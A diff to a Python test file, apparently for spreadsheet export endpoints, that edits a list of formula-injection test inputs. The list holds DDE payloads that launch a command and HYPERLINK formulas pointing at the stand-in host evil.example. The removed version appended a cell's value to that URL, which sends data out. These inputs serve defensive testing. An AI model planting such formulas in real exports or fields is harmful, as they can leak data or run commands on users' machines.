@@ -12,7 +12,8 @@ from tests.factories import make_unit
 from tests.proposals.helpers import World
 from tests.proposals.web import open_now, url
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0",
+# Each fits a name column (40 characters).
+HOSTILE = ['=HYPERLINK("http://evil.example","看")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 XLSX_ENDPOINTS = {"proposals.export_xlsx", "compounds.roster_export"}
 APP = Path(__file__).resolve().parents[2] / "app"
